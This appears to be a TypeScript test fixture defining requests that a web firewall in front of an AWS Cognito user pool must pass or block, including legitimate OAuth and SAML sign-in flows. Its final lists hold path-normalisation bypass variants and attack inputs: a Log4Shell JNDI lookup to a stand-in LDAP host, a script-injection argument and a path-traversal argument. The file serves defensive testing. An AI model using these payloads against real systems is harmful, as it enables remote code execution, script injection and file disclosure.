// Requests to the user pool: the edge's, and people's.

import type { Request } from "./request.ts";

const EDGE_ADDRESS = "2a06:98c0:3600::103";
const BROWSER = { host: "edgeward.auth.eu-west-1.amazoncognito.com", "user-agent": "Mozilla/5.0 (X11; Linux x86_64)" };

/** A call of the edge's. It comes without `User-Agent` here: the firewall must not ask for one. */
const machine = (path: string, changes: Partial<Request> = {}): Request => ({
  method: "POST",
  path,
  query: "",
  headers: { host: BROWSER.host, "content-type": "application/x-www-form-urlencoded" },
  body: "grant_type=refresh_token&refresh_token=eyJjdHkiOiJKV1Qi",
  address: EDGE_ADDRESS,
  ...changes,
});

/** Calls of the edge's that must pass, however many come from its address. */
export const machineCalls = (userPoolId: string): Record<string, Request> => ({
  "a code redeemed": machine("/oauth2/token", { body: `grant_type=authorization_code&code=${"c".repeat(3072)}&redirect_uri=http%3A%2F%2F127.0.0.1%3A8787%2Fcallback` }),
  "a refresh": machine("/oauth2/token"),
  "a revocation": machine("/oauth2/revoke"),
  "a question for the user": machine("/oauth2/userInfo", { method: "GET", body: "" }),
  "the pool's keys": machine(`/${userPoolId}/.well-known/jwks.json`, { method: "GET", body: "" }),
  "a refresh while another customer of the CDN does evil": machine("/oauth2/token", { listed: "AWSManagedIPReputationList" }),
});

/** A request of a browser's. */
export const page = (path: string, changes: Partial<Request> = {}): Request => ({
  method: "GET",
  path,
  query: "",
  headers: BROWSER,
  body: "",
  address: "203.0.113.20",
  ...changes,
});

const authorize = (redirectUri: string, state = "s".repeat(300)) =>
  page("/oauth2/authorize", { query: `${new URLSearchParams({ response_type: "code", client_id: "abc", redirect_uri: redirectUri, state })}` });

const saml = `${new URLSearchParams({ RelayState: "https://127.0.0.1:8787", SAMLResponse: Buffer.from("<Response/>".repeat(2100)).toString("base64") })}`;

/** Requests of honest people that must pass. */
export const SIGN_INS: Record<string, Request> = {
  "a login page": authorize("https://mcp.example.com/callback"),
  "a login page of an edge at localhost": authorize("http://localhost:8787/callback"),
  "a login page of an edge at a loopback address": authorize("http://127.0.0.1:8787/callback"),
  "a login page of an edge whose name looks like a file's": authorize("https://mcp.login.config.example/callback"),
  "a login page with a long state": authorize("https://mcp.example.com/callback", "s".repeat(3072)),
  "a password": page("/login", { method: "POST", body: "_csrf=1&signInSubmitButton=Sign+in" }),
  "an identity provider's answer with a code of 3 KB": page("/oauth2/idpresponse", { query: `code=${"c".repeat(3072)}&state=s` }),
  "a SAML response of 30 KB": page("/saml2/idpresponse", { method: "POST", body: saml }),
  "cookies of neighbours": page("/login", { headers: { ...BROWSER, cookie: `last=http://localhost/;x=<script>;y=${"y".repeat(11_000)}` } }),
  "signing out": page("/logout", { query: "client_id=abc&logout_uri=https%3A%2F%2Fmcp.example.com%2Fsigned-out" }),
};

/** Paths that are not the edge's, however they look: their rate is limited, and what they bring is inspected. */
export const DISGUISED_PAGES = [
  "/login",
  "/oauth2/token/../../login",
  "/oauth2/token/",
  "//oauth2/token",
  "/./oauth2/token",
  "/OAUTH2/TOKEN",
  "/oauth2/%74oken",
  "/oauth2/token%00",
  "/oauth2/token;v=1",
  "/oauth2/token%2f..%2flogin",
  "/oauth2\\token",
  "/oauth2/userinfo",
  "/login/.well-known/jwks.json",
];

/** Must not get to a page, by the rule's name. */
export const SIGN_IN_ATTACKS: Record<string, [Request, string]> = {
  "a bad address": [page("/login", { listed: "AWSManagedIPReputationList" }), "ip-reputation/AWSManagedIPReputationList"],
  "no User-Agent": [page("/login", { headers: { host: BROWSER.host } }), "common/NoUserAgent_HEADER"],
  "a scanner": [page("/login", { headers: { ...BROWSER, "user-agent": "Nessus" } }), "common/UserAgent_BadBots_HEADER"],
  "Log4Shell in a header": [page("/login", { headers: { ...BROWSER, referer: "${jndi:ldap://example.com/}" } }), "known-bad-inputs/Log4JRCE_HEADER"],
  "a script in an argument": [page("/login", { query: "client_id=%3Cscript%3Ealert(1)%3C/script%3E" }), "common/CrossSiteScripting_QUERYARGUMENTS"],
  "a path upwards in an argument": [page("/login", { query: "lang=..%2F..%2Fetc" }), "common/GenericLFI_QUERYARGUMENTS"],
};
